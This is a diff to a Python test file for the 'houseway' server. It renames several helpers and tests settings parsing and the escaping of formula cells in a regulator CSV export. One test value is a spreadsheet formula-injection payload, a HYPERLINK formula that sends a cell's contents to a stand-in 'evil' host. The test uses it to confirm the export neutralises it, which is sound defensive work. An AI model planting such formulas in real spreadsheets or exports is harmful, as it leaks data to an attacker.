@@ -14,14 +14,14 @@ from websockets.sync.client import connect
 
 from houseway.server.accounts import users
 from houseway.server.ops import regulator_export
-from houseway.server.ops.settings import settings
+from houseway.server.ops.settings import load_settings
 from houseway.server.storage import schema
 
 FORGED = '=HYPERLINK("http://evil/"&A1)'
 
 
 def acts(house: Served) -> list[str]:
-    with house.floor.store.reading() as connection:
+    with house.floor.store.begin_read() as connection:
         return list(connection.execute(sa.select(schema.acts.c.about).order_by(schema.acts.c.id)).scalars())
 
 
@@ -64,15 +64,15 @@ def test_clients_behind_a_proxy_are_limited_one_by_one(tmp_path: Path) -> None:
 def test_lists_of_settings_come_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("HOUSEWAY_PROXIES", "10.0.0.1 10.0.1.0/24")
     monkeypatch.setenv("HOUSEWAY_ALLOWED_HOSTS", "casino.example")
-    found = settings()
+    found = load_settings()
     assert (found.proxies, found.allowed_hosts) == (("10.0.0.1", "10.0.1.0/24"), ("casino.example",))
 
 
 def test_cells_of_the_export_are_no_formulas(tmp_path: Path) -> None:
     with served(tmp_path / "data") as house:
         for text in (FORGED, "+1", "-1", "@SUM(1)", "plain", "\t=1"):
-            users.logged(house.floor.store, None, "test", text)
-        list(regulator_export.hand_over(house.floor.store, house.floor.keys, tmp_path / "out"))
+            users.write_audit_log(house.floor.store, None, "test", text)
+        list(regulator_export.export_bundle(house.floor.store, house.floor.keys, tmp_path / "out"))
     rows = list(csv.DictReader((tmp_path / "out" / "acts.csv").read_text().splitlines()))
     about = [row["about"] for row in rows if row["act"] == "test"]
     assert about[:5] == [f"'{FORGED}", "'+1", "'-1", "'@SUM(1)", "plain"]
